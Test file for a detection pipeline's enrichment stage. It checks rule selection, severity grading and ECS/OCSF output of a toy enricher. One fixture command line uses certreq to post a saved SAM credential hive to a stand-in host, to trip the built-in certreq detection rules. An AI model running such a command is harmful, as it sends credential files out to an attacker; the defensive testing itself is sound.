/**
 * The enrichment stage: an enricher registered here, in the test only, is chosen by rule metadata and its fields
 * and grade reach every JSON output — no edit outside the enricher and its registration.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createPipeline } from '../../src/pipeline.js';
import { builtinEnrichers, EnricherRegistry, type Enricher } from '../../src/enrich/index.js';
import { toEcsAlert } from '../../src/output/ecs.js';
import { toOcsfFinding } from '../../src/output/ocsf.js';
import type { Alert, RuleMeta } from '../../src/model/alert.js';
import { sysmonStart } from '../correlate/support/events.js';

/** A toy enricher: counts the command line's arguments; grades a rule tagged `toy.grade` as critical. */
interface ToyFields { words: number; image: string | null }
const toy: Enricher<ToyFields> = {
  name: 'toy',
  appliesTo: (rule: RuleMeta) => rule.tags.includes('toy.grade'),
  enrich(alert, { facts, severity }) {
    const words = (facts.commandLine ?? '').split(/\s+/).filter(Boolean).length;
    const graded = alert.rule.tags.includes('toy.grade');
    return { fields: { words, image: facts.image ?? null }, ...(graded ? { severity: 'critical' as const, reason: `toy: ${words} words (was ${severity})`, grade: 'toy_words' } : {}) };
  },
};

const RULES = {
  // Asks for the toy enricher by name in its procwatch block.
  'asks.yml': `title: Asks for toy
id: asks-for-toy
level: low
logsource: { category: process_creation, product: windows }
detection:
  sel: { CommandLine|contains: 'toy-marker' }
  condition: sel
procwatch:
  enrich: toy
`,
  // Chosen by the enricher's own appliesTo (a tag).
  'tagged.yml': `title: Tagged for toy
id: tagged-for-toy
level: low
tags: [toy.grade]
logsource: { category: process_creation, product: windows }
detection:
  sel: { CommandLine|contains: 'toy-marker' }
  condition: sel
`,
  // Neither: keeps its level, gets no toy fields.
  'plain.yml': `title: Plain
id: plain-rule
level: medium
logsource: { category: process_creation, product: windows }
detection:
  sel: { CommandLine|contains: 'toy-marker' }
  condition: sel
`,
};

async function alertsWith(enrichers: EnricherRegistry | undefined, cmd: string, image = 'C:\\Windows\\System32\\certreq.exe'): Promise<Map<string, Alert>> {
  const dir = mkdtempSync(join(tmpdir(), 'pw-enrich-'));
  try {
    for (const [name, text] of Object.entries(RULES)) writeFileSync(join(dir, name), text);
    const pipeline = await createPipeline({ rules: { paths: [dir] }, correlation: enrichers ? { enrichers } : {} });
    assert.deepEqual(pipeline.ruleErrors, []);
    const alerts = pipeline.handle(sysmonStart({ time: '2026-05-01T10:00:00Z', guid: '00000000-0000-0000-0000-000000000001', pid: 100, image, ofn: 'CertReq.exe', cmd }));
    return new Map(alerts.map((a) => [a.rule.id, a]));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('a toy enricher registered in the test only reaches the alert, ECS and OCSF, chosen by rule metadata', async () => {
  const registry = builtinEnrichers().register(toy);
  const cmd = 'certreq -Post -config https://x.example/u C:\\Users\\Public\\sam.save toy-marker';
  const alerts = await alertsWith(registry, cmd);
  assert.deepEqual([...alerts.keys()].sort(), ['asks-for-toy', 'certreq-download-upload', 'certreq-post-url-no-winini', 'plain-rule', 'tagged-for-toy']);

  const asks = alerts.get('asks-for-toy')!;
  assert.deepEqual(asks.context?.enrichments, { toy: { words: 6, image: 'C:\\Windows\\System32\\certreq.exe' } });
  assert.equal(asks.context?.severity, 'low', 'fields only: the rule keeps its level');
  assert.equal(asks.context?.grade, 'rule_level');

  const tagged = alerts.get('tagged-for-toy')!;
  assert.equal(tagged.context?.severity, 'critical');
  assert.equal(tagged.context?.grade, 'toy_words');
  assert.equal(tagged.context?.reason, 'toy: 6 words (was low)');

  const plain = alerts.get('plain-rule')!;
  assert.equal(plain.context?.enrichments, undefined);
  assert.equal(plain.context?.severity, 'medium');

  // Outputs render the enrichment as procwatch.<name>, generically.
  const ecs = toEcsAlert(asks) as { procwatch: Record<string, unknown> };
  assert.deepEqual(ecs.procwatch['toy'], { words: 6, image: 'C:\\Windows\\System32\\certreq.exe' });
  assert.equal(ecs.procwatch['enrichments'], undefined);
  const ocsf = toOcsfFinding(tagged) as { unmapped: { procwatch: Record<string, unknown> }; message: string };
  assert.deepEqual(ocsf.unmapped.procwatch['toy'], { words: 6, image: 'C:\\Windows\\System32\\certreq.exe' });
  assert.equal(ocsf.message, 'toy: 6 words (was low)');

  // The built-in certreq enricher still grades its own rules, beside the toy.
  const certreq = toEcsAlert(alerts.get('certreq-download-upload')!) as { procwatch: Record<string, unknown> };
  assert.equal((certreq.procwatch['certreq'] as { verb: string }).verb, 'post');
  assert.equal(certreq.procwatch['severity'], 'critical');
  assert.equal(certreq.procwatch['toy'], undefined);
});

test('without the toy registered, the rule asking for it gets nothing (and no error)', async () => {
  const alerts = await alertsWith(undefined, 'notepad.exe toy-marker', 'C:\\Windows\\notepad.exe');
  assert.equal(alerts.get('asks-for-toy')!.context?.enrichments, undefined);
  assert.equal(alerts.get('tagged-for-toy')!.context?.severity, 'low');
});

test('an enricher name must not shadow a context key, nor be registered twice', () => {
  const named = (name: string): Enricher => ({ ...toy, name } as Enricher);
  assert.throws(() => new EnricherRegistry().register(named('severity')), /context key/);
  assert.throws(() => new EnricherRegistry().register(named('process_tree')), /context key/);
  assert.throws(() => new EnricherRegistry().register(named('Bad-Name')), /lower-case/);
  assert.throws(() => builtinEnrichers().register(named('certreq')), /twice/);
});

test('the choice is made once per rule', () => {
  let asked = 0;
  const counting: Enricher = { name: 'counting', appliesTo: () => (asked++, true), enrich: () => undefined };
  const registry = new EnricherRegistry().register(counting);
  const rule: RuleMeta = { id: 'r', title: 'R', references: [], tags: [], falsepositives: [], source: 't', extra: {} };
  for (let i = 0; i < 5; i++) assert.equal(registry.forRule(rule).length, 1);
  assert.equal(asked, 1);
});
